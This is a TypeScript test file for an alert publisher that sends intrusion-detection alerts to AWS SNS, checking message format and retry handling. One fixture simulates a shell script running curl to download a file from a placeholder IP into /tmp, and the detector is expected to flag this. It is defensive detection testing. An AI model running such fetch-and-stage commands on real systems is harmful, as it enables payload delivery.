import {
  AuthorizationErrorException,
  InternalErrorException,
  InvalidParameterException,
  KMSAccessDeniedException,
  KMSThrottlingException,
  PublishCommand,
  SNSClient,
  ThrottledException,
} from "@aws-sdk/client-sns";
import { mockClient } from "aws-sdk-client-mock";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Alert } from "../../lib/alerts/alert.js";
import { formatEmailBody } from "../../lib/alerts/format-email.js";
import { SnsAlertPublisher } from "../../lib/alerts/sns-publisher.js";
import { DetectorError } from "../../lib/errors.js";
import { detect, exec, shell } from "../helpers/exec-events.js";

const TOPIC_ARN = "arn:aws:sns:eu-west-1:123456789012:netutil-alerts";
const sns = mockClient(SNSClient);

beforeEach(() => {
  sns.reset();
});

afterEach(() => {
  sns.reset();
});

function publisher(): SnsAlertPublisher {
  return new SnsAlertPublisher({ client: new SNSClient({ region: "eu-west-1" }), topicArn: TOPIC_ARN });
}

async function pipelineAlert(): Promise<Alert> {
  const { alerts } = await detect([
    shell(),
    exec({ pid: 200, ppid: 100, exe: "/usr/bin/dash", args: ["/bin/sh", "/tmp/x.sh"] }),
    exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "-o", "/tmp/k", "http://192.0.2.1/k"] }),
  ]);
  expect(alerts).toHaveLength(1);
  return alerts[0]!;
}

const metadata = (httpStatusCode: number) => ({ $metadata: { httpStatusCode } });

describe("SnsAlertPublisher", () => {
  it("publishes one alert as one Publish with the JSON message structure and filter attributes", async () => {
    sns.on(PublishCommand).resolves({ MessageId: "m-1" });
    const alert = await pipelineAlert();
    await publisher().publish(alert);

    const text = formatEmailBody(alert);
    // Nothing in this alert needs escaping: safeJson is JSON.stringify here.
    const json = JSON.stringify(alert);
    expect(sns.commandCalls(PublishCommand)).toHaveLength(1);
    expect(sns.commandCalls(PublishCommand)[0]!.args[0].input).toEqual({
      TopicArn: TOPIC_ARN,
      Subject: "[HIGH] curl run from /tmp/x.sh on web-01",
      Message: JSON.stringify({ default: text, email: text, sqs: json, lambda: json, https: json }),
      MessageStructure: "json",
      MessageAttributes: {
        severity: { DataType: "String", StringValue: "high" },
        rule_id: { DataType: "String", StringValue: "netutil-writable-exec" },
        utility: { DataType: "String", StringValue: "curl" },
        category: { DataType: "String", StringValue: "transfer" },
        host: { DataType: "String", StringValue: "web-01" },
      },
    });
  });

  it("publishes each alert on its own", async () => {
    sns.on(PublishCommand).resolves({ MessageId: "m-1" });
    const alert = await pipelineAlert();
    const target = publisher();
    await target.publish(alert);
    await target.publish({ ...alert, id: "other" });
    const ids = sns
      .commandCalls(PublishCommand)
      .map((call) => JSON.parse(JSON.parse(call.args[0].input.Message!).sqs).id);
    expect(ids).toEqual([alert.id, "other"]);
  });

  it.each([
    ["throttling", new ThrottledException({ message: "Rate exceeded", ...metadata(429) })],
    ["a KMS throttle", new KMSThrottlingException({ message: "KMS rate exceeded", ...metadata(400) })],
    ["an internal error", new InternalErrorException({ message: "Internal", ...metadata(500) })],
    [
      "a 503",
      Object.assign(new Error("Service Unavailable"), { name: "ServiceUnavailable", ...metadata(503) }),
    ],
    ["a reset connection", Object.assign(new Error("socket hang up"), { code: "ECONNRESET" })],
    ["a client timeout", Object.assign(new Error("timed out"), { name: "TimeoutError" })],
  ])("%s is a retryable DetectorError with its cause and context", async (_name, error) => {
    sns.on(PublishCommand).rejects(error);
    const alert = await pipelineAlert();
    const thrown = await publisher()
      .publish(alert)
      .then(
        () => undefined,
        (e: unknown) => e,
      );
    expect(thrown).toBeInstanceOf(DetectorError);
    const detectorError = thrown as DetectorError;
    expect(detectorError.retryable).toBe(true);
    expect(detectorError.cause).toBe(error);
    expect(detectorError.context).toEqual({ topicArn: TOPIC_ARN, alertId: alert.id, trimmed: false });
    expect(detectorError.message).toContain(alert.id);
  });

  it.each([
    [
      "an invalid parameter",
      new InvalidParameterException({ message: "Invalid parameter: Message", ...metadata(400) }),
    ],
    [
      "denied authorization",
      new AuthorizationErrorException({ message: "not authorized", ...metadata(403) }),
    ],
    ["denied KMS access", new KMSAccessDeniedException({ message: "KMS access denied", ...metadata(400) })],
  ])("%s is not retryable", async (_name, error) => {
    sns.on(PublishCommand).rejects(error);
    const alert = await pipelineAlert();
    const publishing = publisher().publish(alert);
    await expect(publishing).rejects.toBeInstanceOf(DetectorError);
    await expect(publishing).rejects.toMatchObject({
      retryable: false,
      cause: error,
      context: { topicArn: TOPIC_ARN, alertId: alert.id },
    });
  });
});
